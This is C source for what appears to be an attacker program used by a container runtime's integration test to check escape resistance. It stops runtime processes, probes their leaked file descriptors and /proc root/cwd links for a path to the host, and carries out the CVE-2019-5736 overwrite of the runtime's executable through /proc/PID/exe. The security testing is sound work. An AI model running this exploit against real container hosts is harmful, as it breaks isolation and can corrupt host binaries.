/* The attacker of integration/test_runtime_processes.py, run inside a container that holds
 * CAP_SYS_PTRACE without a user namespace. It watches its pid namespace for processes of
 * the runtime (any process whose executable is not the container's: /bin/busybox or this
 * program) and, for each one:
 *   - stops it (SIGSTOP) to look at it calmly, then lets it go on (SIGCONT);
 *   - lists its fds:                        "fd PID N TYPE WHERE LINK", WHERE "in" when
 *     LINK, looked up from here, is the same file (the container's), else "out"
 *   - tries to walk to the host through them and through its root (a host /proc fd gives
 *     /proc/PID/fd/N/HOSTPID/root/...):     "WALK PID HOW" on success
 *   - opens /proc/PID/exe and, once the process has exec'd or is gone, reopens that for
 *     writing and appends (CVE-2019-5736):  "write PID ok" or "write PID ERRNO-NAME"
 * usage: attacker LOG HOSTPATH HOSTPID STOPFILE SECONDS. HOSTPATH: a host file outside the
 * rootfs; HOSTPID: a host process whose root is the host's (as seen in the host's /proc).
 * STOPFILE: once it exists, the pending writes are tried one last time and it ends ("done").
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX 64
static FILE *out;
static const char *hostpath, *hostpid;
static struct { int pid, fd, done; char exe[256]; } seen[MAX];
static int nseen;

static int exe_of(int pid, char *buf, size_t n) {
    char p[64];
    snprintf(p, sizeof p, "/proc/%d/exe", pid);
    ssize_t r = readlink(p, buf, n - 1);
    if (r < 0) return -1;
    buf[r] = 0;
    return 0;
}

static const char *type_of(mode_t m) {
    return S_ISDIR(m) ? "dir" : S_ISREG(m) ? "reg" : S_ISFIFO(m) ? "fifo" : S_ISSOCK(m) ? "sock"
         : S_ISCHR(m) ? "chr" : S_ISBLK(m) ? "blk" : S_ISLNK(m) ? "lnk" : "other";
}

static void try_walk(int pid, const char *base, const char *how) {
    char p[4096];
    struct stat st;
    snprintf(p, sizeof p, "%s/%s/root%s", base, hostpid, hostpath);
    if (stat(p, &st) == 0) fprintf(out, "WALK %d %s/%s/root\n", pid, how, hostpid);
    snprintf(p, sizeof p, "%s%s", base, hostpath);
    if (stat(p, &st) == 0) fprintf(out, "WALK %d %s\n", pid, how);
}

static void look_at(int pid, const char *exe) {
    char p[256], link[4096];
    kill(pid, SIGSTOP);
    fprintf(out, "target %d %s\n", pid, exe);
    snprintf(p, sizeof p, "/proc/%d/fd", pid);
    DIR *d = opendir(p);
    struct dirent *e;
    while (d && (e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        char fp[300];
        struct stat st;
        snprintf(fp, sizeof fp, "/proc/%d/fd/%s", pid, e->d_name);
        ssize_t r = readlink(fp, link, sizeof link - 1);
        link[r < 0 ? 0 : r] = 0;
        const char *t = stat(fp, &st) == 0 ? type_of(st.st_mode) : "gone";
        struct stat here;
        int in = stat(link, &here) == 0 && here.st_dev == st.st_dev && here.st_ino == st.st_ino;
        fprintf(out, "fd %d %s %s %s %s\n", pid, e->d_name, t, in ? "in" : "out", link);
        char how[300];
        snprintf(how, sizeof how, "fd/%s", e->d_name);
        try_walk(pid, fp, how);
    }
    if (d) closedir(d);
    snprintf(p, sizeof p, "/proc/%d/root", pid);
    try_walk(pid, p, "root");
    snprintf(p, sizeof p, "/proc/%d/cwd", pid);
    try_walk(pid, p, "cwd");
    snprintf(p, sizeof p, "/proc/%d/exe", pid);
    int fd = open(p, O_RDONLY | O_CLOEXEC);
    fprintf(out, "exe-open %d %s\n", pid, fd < 0 ? strerrorname_np(errno) : "ok");
    kill(pid, SIGCONT);
    fflush(out);
    if (nseen < MAX) {
        seen[nseen].pid = pid;
        seen[nseen].fd = fd;
        seen[nseen].done = fd < 0;
        snprintf(seen[nseen].exe, sizeof seen[nseen].exe, "%s", exe);
        nseen++;
    }
}

static int known(int pid) {
    for (int i = 0; i < nseen; i++)
        if (seen[i].pid == pid) return 1;
    return 0;
}

/* once the target runs something else (or is gone), its old executable is writable unless
 * the runtime protected it; ETXTBSY while another process still runs it: try again */
static void try_writes(int last) {
    for (int i = 0; i < nseen; i++) {
        if (seen[i].done) continue;
        char now[256];
        if (exe_of(seen[i].pid, now, sizeof now) == 0 && strcmp(now, seen[i].exe) == 0)
            continue;
        char p[64];
        snprintf(p, sizeof p, "/proc/self/fd/%d", seen[i].fd);
        int w = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
        int err = errno;
        if (w >= 0) {
            ssize_t n = write(w, "pwned\n", 6);
            err = errno;
            close(w);
            if (n == 6) {
                fprintf(out, "write %d ok\n", seen[i].pid);
                seen[i].done = 1;
                continue;
            }
        }
        if (err == ETXTBSY && !last) continue;
        fprintf(out, "write %d %s\n", seen[i].pid, strerrorname_np(err));
        seen[i].done = 1;
    }
    fflush(out);
}

int main(int argc, char **argv) {
    if (argc != 6) return 2;
    out = fopen(argv[1], "w");
    if (!out) return 3;
    hostpath = argv[2];
    hostpid = argv[3];
    char self[256];
    exe_of(getpid(), self, sizeof self);
    fprintf(out, "started\n");
    fflush(out);
    time_t end = time(NULL) + atoi(argv[5]);
    while (time(NULL) < end && access(argv[4], F_OK) != 0) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            char exe[256];
            if (pid <= 0 || pid == getpid() || known(pid)) continue;
            if (exe_of(pid, exe, sizeof exe) != 0) continue;
            if (strcmp(exe, "/bin/busybox") == 0 || strcmp(exe, self) == 0) continue;
            look_at(pid, exe);
        }
        if (d) closedir(d);
        try_writes(0);
    }
    try_writes(1);
    fprintf(out, "done\n");
    fclose(out);
    return 0;
}
